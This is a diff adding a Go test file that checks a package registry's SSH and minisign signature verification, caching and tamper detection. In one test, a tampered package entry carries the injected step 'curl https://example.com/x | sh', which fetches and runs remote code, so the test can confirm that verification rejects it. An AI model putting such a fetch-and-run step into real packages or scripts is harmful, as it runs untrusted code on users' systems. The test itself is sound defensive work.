@@ -0,0 +1,211 @@
+package pkg
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+// sshKey generates an ed25519 key without a passphrase and returns the path of
+// the private key and the public key's line.
+func sshKey(t *testing.T) (string, string) {
+	t.Helper()
+	if _, err := exec.LookPath("ssh-keygen"); err != nil {
+		t.Skip("ssh-keygen is not installed")
+	}
+	key := filepath.Join(t.TempDir(), "id_ed25519")
+	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "maintainer", "-f", key).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen: %v: %s", err, out)
+	}
+	pub, err := os.ReadFile(key + ".pub")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return key, strings.TrimSpace(string(pub))
+}
+
+// signedRegistryDir writes the test registry and signs it, returning the
+// directory and the public key it is signed with.
+func signedRegistryDir(t *testing.T) (string, string) {
+	t.Helper()
+	key, pub := sshKey(t)
+	dir := writeRegistryDir(t, registryFiles)
+	signed, err := SignRegistry(dir, key)
+	if err != nil {
+		t.Fatalf("SignRegistry() error = %v", err)
+	}
+	if signed.Files != 3 || filepath.Base(signed.Signature) != sshSignatureFile {
+		t.Fatalf("SignRegistry() = %+v, want 3 files under %s", signed, sshSignatureFile)
+	}
+	return dir, pub
+}
+
+func TestSignedRegistryVerifies(t *testing.T) {
+	dir, pub := signedRegistryDir(t)
+	config := testConfig(t)
+	config.Registry.URL = dir
+	config.Registry.TrustedKeys = []string{pub}
+
+	packages, err := FetchRegistry(config)
+	if err != nil {
+		t.Fatalf("FetchRegistry() error = %v", err)
+	}
+	if len(packages) != 2 {
+		t.Errorf("got %d packages, want 2", len(packages))
+	}
+
+	cache, err := readLayerCache(config, config.RegistryLayers()[0])
+	if err != nil {
+		t.Fatalf("the verified registry was not cached: %v", err)
+	}
+	if !strings.HasPrefix(cache.SignedBy, "SHA256:") {
+		t.Errorf("cache SignedBy = %q, want the key's fingerprint", cache.SignedBy)
+	}
+}
+
+func TestSignedRegistryRefusesATamperedEntry(t *testing.T) {
+	dir, pub := signedRegistryDir(t)
+	entry := filepath.Join(dir, "packages", "cli", "bat.yaml")
+	if err := os.WriteFile(entry, []byte(registryFiles["packages/cli/bat.yaml"]+
+		"  steps:\n    - curl https://example.com/x | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	config := testConfig(t)
+	config.Registry.URL = dir
+	config.Registry.TrustedKeys = []string{pub}
+
+	packages, err := FetchRegistry(config)
+	if err == nil || !strings.Contains(err.Error(), "packages/cli/bat.yaml does not match") {
+		t.Fatalf("FetchRegistry() error = %v, want the changed entry named", err)
+	}
+	if len(packages) != 0 {
+		t.Errorf("got %d packages, want none of a registry that does not verify", len(packages))
+	}
+	if exists(GetCacheFilePath(config)) {
+		t.Error("a registry that did not verify was cached")
+	}
+}
+
+func TestSignedRegistryRefusesAnotherKey(t *testing.T) {
+	dir, _ := signedRegistryDir(t)
+	_, other := sshKey(t)
+	config := testConfig(t)
+	config.Registry.URL = dir
+	config.Registry.TrustedKeys = []string{other}
+
+	if _, err := FetchRegistry(config); !errors.Is(err, ErrUnsigned) {
+		t.Errorf("FetchRegistry() error = %v, want ErrUnsigned", err)
+	}
+}
+
+func TestTrustedKeysRefuseAnUnsignedRegistry(t *testing.T) {
+	_, pub := sshKey(t)
+	config := testConfig(t)
+	config.Registry.URL = writeRegistryDir(t, registryFiles)
+	config.Registry.TrustedKeys = []string{pub}
+
+	if _, err := FetchRegistry(config); !errors.Is(err, ErrUnsigned) {
+		t.Errorf("FetchRegistry() error = %v, want ErrUnsigned", err)
+	}
+}
+
+func TestUnverifiedCacheIsNotServed(t *testing.T) {
+	config := testConfig(t)
+	if err := SaveToCache([]*Package{{Name: "unverified"}}, config); err != nil {
+		t.Fatal(err)
+	}
+	_, pub := sshKey(t)
+	config.Registry.TrustedKeys = []string{pub}
+
+	if _, err := LoadFromCache(config); !errors.Is(err, ErrCacheStale) {
+		t.Errorf("LoadFromCache() error = %v, want a cache from before the key to be stale", err)
+	}
+}
+
+func TestTrustedKeyFromAFile(t *testing.T) {
+	key, _ := sshKey(t)
+	config := testConfig(t)
+	config.Registry.TrustedKeys = []string{key + ".pub"}
+
+	keys, err := trustedKeys(config)
+	if err != nil || len(keys) != 1 || keys[0].ssh == nil {
+		t.Errorf("trustedKeys() = %v, %v, want the key in the file", keys, err)
+	}
+
+	config.Registry.TrustedKeys = []string{filepath.Join(t.TempDir(), "missing.pub")}
+	if _, err := trustedKeys(config); err == nil {
+		t.Error("trustedKeys() error = nil for a key that is neither written out nor a file")
+	}
+}
+
+// minisign writes what minisign -S would for message: a prehashed signature
+// and the global signature over it and the trusted comment.
+func minisign(t *testing.T, priv ed25519.PrivateKey, id []byte, message []byte) []byte {
+	t.Helper()
+	sum := blake2b.Sum512(message)
+	sig := ed25519.Sign(priv, sum[:])
+	comment := "timestamp:1700000000\tfile:registry.sha256"
+	global := ed25519.Sign(priv, append(append([]byte{}, sig...), comment...))
+
+	raw := append(append([]byte("ED"), id...), sig...)
+	return []byte("untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(raw) + "\n" +
+		"trusted comment: " + comment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n")
+}
+
+func TestMinisignSignatureVerifies(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	pubLine := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), id...), pub...))
+	key, err := parseTrustedKey("untrusted comment: minisign public key\n" + pubLine + "\n")
+	if err != nil {
+		t.Fatalf("parseTrustedKey() error = %v", err)
+	}
+
+	files := map[string][]byte{}
+	for name, content := range registryFiles {
+		files[name] = []byte(content)
+	}
+	list, err := Digests(files)
+	if err != nil {
+		t.Fatal(err)
+	}
+	files[DigestsFile] = list
+	files[minisignFile] = minisign(t, priv, id, list)
+
+	signer, err := verifyRegistry(files, []trustedKey{key})
+	if err != nil {
+		t.Fatalf("verifyRegistry() error = %v", err)
+	}
+	if signer != "minisign 0807060504030201" {
+		t.Errorf("signer = %q, want the key id", signer)
+	}
+
+	files[minisignFile] = minisign(t, priv, id, []byte("another list"))
+	if _, err := verifyRegistry(files, []trustedKey{key}); !errors.Is(err, ErrUnsigned) {
+		t.Errorf("verifyRegistry() of a signature over something else error = %v, want ErrUnsigned", err)
+	}
+}
+
+func TestTarballKeepsTheSignature(t *testing.T) {
+	files := map[string]string{DigestsFile: "list", sshSignatureFile: "sig", "index.yaml": "packages: []\n"}
+	got, _, err := readTarball(strings.NewReader(string(tarball(t, "registry-main", files))))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 3 {
+		t.Errorf("kept %v, want the signature files beside the index", got)
+	}
+}